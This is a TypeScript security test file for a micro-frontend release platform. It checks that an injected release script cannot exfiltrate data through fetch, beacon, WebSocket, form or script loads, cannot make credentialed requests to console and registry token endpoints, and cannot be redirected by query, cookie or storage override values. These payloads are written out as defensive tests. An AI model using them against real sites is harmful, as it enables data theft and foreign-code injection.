import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { callInPage } from '@psma/test-harness/callInPage.ts';
import { signInToConsole } from '@psma/test-harness/consoleSignIn.ts';
import { editedRelease } from '@psma/test-harness/patchedRelease.ts';
import { releaseCli } from '@psma/test-harness/releaseCli.ts';
import { expect, test } from '@psma/test-harness/releases.ts';
import { title } from '@psma/test-harness/visitor.ts';

test.use({ expectedConsoleErrors: /Content Security Policy|Trusted|script policy/ });

/** Attempts to exfiltrate data or run foreign code. */
const ATTEMPTS: Record<string, (other: string) => unknown> = {
  fetch: (other) => fetch(`${other}fetch`).catch(() => {}),
  beacon: (other) => navigator.sendBeacon(`${other}beacon`, 'secret'),
  image: (other) => Object.assign(new Image(), { src: `${other}image` }),
  socket: (other) => new WebSocket(`${other.replace('http', 'ws')}socket`),
  stream: (other) => new EventSource(`${other}stream`),
  style: (other) =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${other}style` }),
    ),
  frame: (other) =>
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${other}frame` })),
  form: (other) => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${other}form`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  script: (other) =>
    document.head.append(Object.assign(document.createElement('script'), { src: `${other}script` })),
  import: (other) => import(`${other}import`).catch(() => {}),
  worker: (other) => new Worker(`${other}worker`),
  serviceWorker: () => navigator.serviceWorker.register('/dev/null.js').catch(() => {}),
};

/** Requests to console and registry with an owner's session. */
const REQUESTS = [
  ['GET', '/console'],
  ['GET', '/console/tokens'],
  ['GET', '/registry/state'],
  ['GET', '/registry/tokens'],
  ['POST', '/console/remotes/mf-triage/kill'],
  ['POST', '/console/tokens'],
  ['POST', '/registry/tokens'],
] as const;

/** Sends each request to the page's origin and to the console's. */
function sendAll(requests: typeof REQUESTS, consoleUrl: string) {
  const release = '0'.repeat(12);
  const body = new URLSearchParams({ release, reason: 'attack', label: 'mine', owner: 'yes' });
  return Promise.all(
    requests.flatMap(([method, path]) =>
      [location.origin, consoleUrl].map((origin) =>
        fetch(origin + path, { method, credentials: 'include', ...(method === 'POST' ? { body } : {}) }).then(
          ({ status }) => status,
          () => 'blocked',
        ),
      ),
    ),
  );
}

test('G237 a release’s script reaches neither console nor registry of an owner who is signed in', async ({
  page,
  product,
  copy,
}) => {
  const release = releaseCli(copy, product);
  const because = ['--reason', 'a test'];
  const state = () => Promise.all([release('list'), release('token', 'list')]);
  const { directory, releaseId } = await editedRelease(product, 'mf-triage', 'console', (script) =>
    /^(?:"use strict";)?var mf_triage/.test(script)
      ? `${script};globalThis.attack=${callInPage(sendAll, REQUESTS, product.consoleUrl)}`
      : script,
  );
  const unseen = ['--no-smoke', 'a hostile release'];
  await release('publish', 'mf-triage', '--dir', directory, '--allow-dirty', ...unseen, ...because);
  const { url } = await release<{ url: string }>(
    ...['pin', '--remote', `mf-triage@${releaseId}`, '--expires', '1h', ...because],
  );
  await signInToConsole(page, product);
  const before = await state();

  await page.request.get(url);
  await page.goto(product.url);
  await expect(title(page)).toBeVisible();
  const answers = await page.evaluate(() => (globalThis as unknown as { attack: Promise<unknown[]> }).attack);
  expect(answers).toEqual(REQUESTS.flatMap(() => [404, 'blocked']));
  expect(await state()).toEqual(before);
});

test('a release’s script can neither call another origin nor load from it', async ({
  page,
  product,
  copy,
}) => {
  const asked: string[] = [];
  const server = createServer((request, answer) => {
    asked.push(request.url ?? '');
    answer.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  server.on('upgrade', (request, socket) => {
    asked.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const other = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;

  const { releaseId, directory } = await editedRelease(product, 'mf-triage', other, (script) =>
    /^(?:"use strict";)?var mf_triage/.test(script)
      ? `${script};globalThis.tried=[];${Object.entries(ATTEMPTS)
          .map(
            ([name, attempt]) =>
              `try{${callInPage(attempt, other)}}catch{}tried.push(${JSON.stringify(name)});`,
          )
          .join('')}`
      : script,
  );
  const release = releaseCli(copy, product);
  const because = ['--reason', 'a test'];
  const unseen = ['--no-smoke', 'a hostile release'];
  await release('publish', 'mf-triage', '--dir', directory, '--allow-dirty', ...unseen, ...because);
  const { url } = await release<{ url: string }>(
    ...['pin', '--remote', `mf-triage@${releaseId}`, '--expires', '1h', ...because],
  );

  await page.request.get(url);
  await page.addInitScript(() => {
    const blocked: string[] = [];
    Object.assign(globalThis, { blocked });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      blocked.push(effectiveDirective),
    );
  });
  await page.goto(product.url);
  await expect(title(page)).toBeVisible();
  const read = (name: string) =>
    page.evaluate((list) => (globalThis as unknown as Record<string, string[]>)[list], name);
  expect(await read('tried')).toEqual(Object.keys(ATTEMPTS));
  await expect
    .poll(async () => [...new Set(await read('blocked'))].sort())
    .toEqual(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']);
  expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations())).toEqual([]);
  expect(asked).toEqual([]);
  await page.request.get(`${other}from-the-test`);
  expect(asked).toEqual(['/from-the-test']);
  server.close();
});

/** What other platforms take as an override, pointing at `other`. */
const OVERRIDES: [what: string, given: { path?: string; cookie?: string; storage?: [string, string] }][] = [
  ...[
    'mf-triage',
    'mf_triage',
    'remoteEntry',
    'entry',
    'override',
    'overrides',
    'imo',
    'import-map',
    'importmap',
    'shell',
    'assets',
    'release',
    'pin',
    'preview',
    'base',
  ].map((name): (typeof OVERRIDES)[number] => [`query ${name}`, { path: `/?${name}=OTHER` }]),
  ['two queries', { path: '/?remotes[mf-triage]=OTHER&dev=1&debug=1' }],
  ['fragment', { path: '/#mf-triage=OTHER' }],
  ['fragment as a path', { path: '/#OTHER' }],
  ...['import-map-override:mf-triage', 'import-map-overrides', 'pins', 'psma-pins', 'assets'].map(
    (name): (typeof OVERRIDES)[number] => [`cookie ${name}`, { cookie: `${name}=OTHER; path=/` }],
  ),
  ...[
    'import-map-override:mf-triage',
    'import-map-overrides',
    '__MF_DEVTOOLS__',
    'FEDERATION_DEBUG',
    'mf-overrides',
    'mf-triage',
    'remotes',
  ].map((name): (typeof OVERRIDES)[number] => [
    `storage ${name}`,
    { storage: [name, '{"mf-triage":"OTHER","overrides":{"mf-triage":"OTHER"}}'] },
  ]),
];

test('A-OVR-006 no address, cookie or storage value makes the page load a script outside the map', async ({
  page,
  product,
}) => {
  expect(OVERRIDES).toHaveLength(30);
  const other = 'http://127.0.0.1:9/remoteEntry.js';
  const { remotes, shellRelease } = (await (
    await page.request.get(`${product.url}/releases/resolution`)
  ).json()) as {
    remotes: { remote: string; candidates: { releaseId: string }[] }[];
    shellRelease: { releaseId: string };
  };
  const named = [
    `/releases/shell/${shellRelease.releaseId}/`,
    ...remotes.flatMap(({ remote, candidates }) =>
      candidates.map(({ releaseId }) => `/releases/${remote}/${releaseId}/`),
    ),
  ].map((base) => product.url + base);
  const scripts: string[] = [];
  page.on('request', (request) => {
    if (request.resourceType() === 'script' || !request.url().startsWith(product.url))
      scripts.push(request.url());
  });
  for (const [what, { path = '/', cookie, storage }] of OVERRIDES) {
    const value = (text: string) => text.replaceAll('OTHER', other);
    if (cookie) await page.evaluate((text) => (document.cookie = text), value(cookie));
    if (storage)
      await page.evaluate(
        ([key, text]) => {
          localStorage.setItem(key, text);
          sessionStorage.setItem(key, text);
        },
        [storage[0], value(storage[1])] as const,
      );
    scripts.length = 0;
    // A fragment by itself loads no document.
    await page.goto('about:blank');
    const loaded = page.waitForResponse((response) =>
      /\/releases\/mf-triage\/[0-9a-f]{12}\/remoteEntry\.js$/.test(response.url()),
    );
    await page.goto(product.url + value(path));
    await loaded;
    await expect(title(page)).toBeVisible();
    const foreign = scripts.filter((url) => !named.some((base) => url.startsWith(base)));
    expect([what, foreign.filter((url) => url !== 'about:blank')]).toEqual([what, []]);
  }
});
